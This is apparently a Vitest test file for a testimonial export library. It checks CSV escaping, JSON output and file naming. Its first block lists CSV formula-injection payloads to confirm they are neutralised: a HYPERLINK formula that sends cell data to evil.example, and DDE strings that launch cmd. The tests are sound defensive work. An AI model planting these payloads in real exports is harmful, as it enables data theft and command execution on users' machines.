import { describe, expect, it } from "vitest";
import {
  csvCell,
  EXPORT_COLUMNS,
  exportFileName,
  exportRecord,
  toCsv,
  toJson,
  type ExportRecord,
} from "@/lib/testimonial-export";
import { parseCsv } from "../support/csv";

const record = (overrides: Partial<ExportRecord> = {}): ExportRecord => ({
  id: "abc",
  name: "Kemi Adeleke",
  role: "Event Planner",
  company: null,
  email: "kemi@example.com",
  message: "Lovely food.",
  imageUrl: null,
  status: "approved",
  consentAt: "2026-11-01T10:00:00.000Z",
  submittedAt: "2026-11-01T10:00:00.000Z",
  decidedAt: "2026-11-02T09:30:00.000Z",
  featured: false,
  ...overrides,
});

describe("testimonial export: CSV formula injection (OWASP 'CSV Injection')", () => {
  // Payloads from OWASP's page and common variants: each must reach the sheet as plain text.
  const payloads = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
  ];
  it.each(payloads)("%j starts with an apostrophe, so no spreadsheet runs it", (payload) => {
    const [row] = parseCsv(`${csvCell(payload)}\r\n`);
    expect(row![0]).toBe(`'${payload}`);
  });

  it("every field of a record is neutralised, not only the message", () => {
    const csv = toCsv([
      record({ name: "=Evil()", role: "+Role", company: "-Co", email: "@x", message: "=1" }),
    ]);
    const [, row] = parseCsv(csv);
    expect(row!.slice(1, 6)).toEqual(["'=Evil()", "'+Role", "'-Co", "'@x", "'=1"]);
  });

  it("ordinary words, and signs inside them, are left as they are", () => {
    expect(csvCell("Amara's jollof = best")).toBe("Amara's jollof = best");
    expect(csvCell("5+ stars")).toBe("5+ stars");
    expect(csvCell("")).toBe("");
    expect(csvCell(null)).toBe("");
    expect(csvCell(true)).toBe("true");
  });
});

describe("testimonial export: CSV shape", () => {
  it("has the heading row, then one row per record, read back exactly (commas, quotes, line breaks)", () => {
    const message = 'She said "wow", then:\nwe ate.';
    const csv = toCsv([record({ message, company: "Eze, Sons & Co" }), record({ id: "def" })]);
    expect(csv.startsWith("\uFEFF")).toBe(true);
    expect(csv.endsWith("\r\n")).toBe(true);
    const rows = parseCsv(csv);
    expect(rows[0]).toEqual(EXPORT_COLUMNS.map(([, heading]) => heading));
    expect(rows).toHaveLength(3);
    expect(rows[1]![EXPORT_COLUMNS.findIndex(([key]) => key === "message")]).toBe(message);
    expect(rows[1]![EXPORT_COLUMNS.findIndex(([key]) => key === "company")]).toBe("Eze, Sons & Co");
    expect(rows[2]![0]).toBe("def");
  });

  it("an export of nothing is the heading row alone", () => {
    expect(parseCsv(toCsv([]))).toEqual([EXPORT_COLUMNS.map(([, heading]) => heading)]);
  });
});

describe("testimonial export: records, JSON and file names", () => {
  it("reads a stored record: times as ISO, missing optional fields as null, featured as a boolean", () => {
    const at = new Date("2026-11-03T08:00:00.000Z");
    const timestamp = { toDate: () => at };
    expect(
      exportRecord("x1", {
        name: "Ada",
        role: "Founder",
        email: "ada@example.com",
        message: "Great.",
        status: "pending",
        consent: true,
        consentAt: timestamp,
        createdAt: timestamp,
      }),
    ).toEqual({
      id: "x1",
      name: "Ada",
      role: "Founder",
      company: null,
      email: "ada@example.com",
      message: "Great.",
      imageUrl: null,
      status: "pending",
      consentAt: at.toISOString(),
      submittedAt: at.toISOString(),
      decidedAt: null,
      featured: false,
    });
    expect(exportRecord("x2", { status: "rejected", unpublishedAt: at }).decidedAt).toBe(
      at.toISOString(),
    );
    expect(exportRecord("x3", { status: "approved", featured: true }).featured).toBe(true);
  });

  it("JSON keeps the words exactly (no apostrophe) with the count and the export time", () => {
    const json = JSON.parse(toJson([record({ message: "=1+1" })], new Date(0))) as {
      exportedAt: string;
      count: number;
      testimonials: ExportRecord[];
    };
    expect(json.exportedAt).toBe("1970-01-01T00:00:00.000Z");
    expect(json.count).toBe(1);
    expect(json.testimonials[0]!.message).toBe("=1+1");
  });

  it("names the file after the day and the count", () => {
    const day = new Date("2026-11-24T23:00:00.000Z");
    expect(exportFileName("csv", 37, day)).toBe("testimonials-2026-11-24-37.csv");
    expect(exportFileName("json", 0, day)).toBe("testimonials-2026-11-24-0.json");
  });
});
